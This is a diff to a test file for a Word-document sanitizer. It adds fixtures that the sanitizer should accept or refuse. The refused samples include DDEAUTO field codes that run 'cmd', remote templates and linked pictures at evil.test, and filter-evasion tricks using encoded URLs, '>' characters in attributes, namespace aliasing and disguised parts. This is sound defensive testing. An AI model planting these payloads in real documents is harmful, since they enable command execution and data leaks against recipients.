@@ -97,6 +97,15 @@ describe('takes a document of Word', () => {
       ),
     ],
     [
+      'with an address at a company of imports',
+      aDocx({
+        'word/document.xml': wordBody('<w:p><w:r><w:t>Escriba a ana@importadora.test</w:t></w:r></w:p>'),
+        [RELATIONS]: aRelation('hyperlink', 'mailto:ana@importadora.test'),
+      }),
+    ],
+    ['with a part of text beside it', aDocx({ 'word/notas.txt': 'a < b & c' })],
+    ['with a `>` in an attribute', withBody(`<w:bookmarkStart w:id="0" w:name="a>b"/>${field('PAGE')}`)],
+    [
       'with data of its maker',
       aDocx({ 'customXml/item1.xml': '<datos><poder href="https://a.test">1</poder></datos>' }),
     ],
@@ -107,6 +116,71 @@ describe('takes a document of Word', () => {
 
 describe('refuses a document of Word', () => {
   it.each<[string, Buffer, Objection?]>([
+    [
+      'with a template elsewhere behind a `>` in an attribute',
+      aDocx({
+        [SETTINGS_RELATIONS]: aRelation('attachedTemplate', 'http://evil.test/a.dotm').replace(
+          '<Relationship ',
+          '<Relationship xmlns:a="u>" ',
+        ),
+      }),
+    ],
+    [
+      'with DDE in a simple field behind a `>` in an attribute',
+      withBody('<w:fldSimple xmlns:a=">" w:instr="DDEAUTO cmd a"/>'),
+    ],
+    [
+      'with DDE in a code behind a `>` in an attribute',
+      withBody(field('DDEAUTO cmd a').replace('<w:instrText>', '<w:instrText xmlns:a="> PAGE ">')),
+    ],
+    [
+      'with the beginning of a field that an attribute of another namespace hides',
+      withBody(
+        field('D', 'DE cmd a').replace(
+          'w:fldCharType="begin"',
+          'xmlns:x="urn:x" x:fldCharType="end" w:fldCharType="begin"',
+        ),
+      ),
+      'unreadable',
+    ],
+    [
+      'with DDE whose runs name the same namespace differently',
+      withBody(
+        field('D', 'DE cmd a')
+          .replace(
+            '<w:instrText>DE',
+            '<y:instrText xmlns:y="urn:y">PAGE </y:instrText><v:instrText xmlns:v="http://schemas.openxmlformats.org/wordprocessingml/2006/main">DE',
+          )
+          .replace('DE cmd a</w:instrText>', 'DE cmd a</v:instrText>'),
+      ),
+    ],
+    ...[
+      'o:title="&gt;" src="http://evil.test/a.png"',
+      'o:title=">" src="http://evil.test/a.png"',
+      'src="&#104;ttp://evil.test/a.png"',
+      'src="&#x68;ttp&#58;//evil.test/a.png"',
+      'src="ht&#10;tp://evil.test/a.png"',
+      'src="HTTP://evil.test/a.png"',
+      'src="/\\evil.test/a.png"',
+    ].map((attributes): [string, Buffer] => [
+      `with a linked picture of old drawings: ${attributes}`,
+      withBody(`<v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" ${attributes}/>`),
+    ]),
+    [
+      'with DDE in a part that is called a picture',
+      ofKind(
+        'word/header1.png',
+        'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml',
+        wordBody(field('DDEAUTO cmd a')),
+      ),
+    ],
+    [
+      'with DDE in UTF-16 under another name',
+      aDocx({ 'word/header1.dat': utf16(wordBody(field('DDEAUTO cmd a'))) }),
+    ],
+    ['that is not well-formed', withBody('<w:p>'), 'unreadable'],
+    ['with a prefix of no namespace', withBody('<x:p/>'), 'unreadable'],
+    ['with endless depth', withBody(`${'<w:p>'.repeat(300)}${'</w:p>'.repeat(300)}`), 'excessive'],
     ...[
       '<rect style="fill:url(http://evil.test/#a)"/>',
       '<rect fill="url(&apos;//evil.test/#a&apos;)"/>',
@@ -350,18 +424,26 @@ describe('takes a document of old Word', () => {
   });
 });
 
-it.each(['http://127.0.0.1/pixel.png', '\\\\evil.test\\a.png'])(
-  'refuses an old Word document whose picture record names %s',
-  (address) => {
-    for (const encoding of ['latin1', 'utf16le'] as const)
-      expect(toDoc(aDoc({ streams: { Data: Buffer.from(`picture ${address}`, encoding) } }))).toBe('active');
-  },
-);
+it.each([
+  'http://127.0.0.1/pixel.png',
+  'HTTP://127.0.0.1/pixel.png',
+  'Https://evil.test/a.png',
+  'File://evil.test/a.png',
+  '\\\\evil.test\\a.png',
+])('refuses an old Word document whose picture record names %s', (address) => {
+  for (const encoding of ['latin1', 'utf16le'] as const)
+    expect(toDoc(aDoc({ streams: { Data: Buffer.from(`picture ${address}`, encoding) } }))).toBe('active');
+});
 
 describe('refuses a document of old Word', () => {
   it.each<[string, Buffer, Objection?]>([
     ['with macros', aDoc({ streams: { 'Macros/VBA/dir': Buffer.alloc(1) } })],
     ['with an object', aDoc({ streams: { 'ObjectPool/_1/\x01Ole10Native': Buffer.alloc(1) } })],
+    ['with an object in a folder in capitals', aDoc({ streams: { 'OBJECTPOOL/_1/a': Buffer.alloc(1) } })],
+    [
+      'with a linked picture in a stream in capitals',
+      aDoc({ streams: { DATA: Buffer.from('picture http://evil.test/a') } }),
+    ],
     ['with macros beside its signature', aDoc({ streams: { '_signatures/VBA': Buffer.alloc(1) } })],
     ['with DDE', aDoc({ text: '\x13 DDEAUTO cmd "/c calc" \x14a\x15' })],
     [
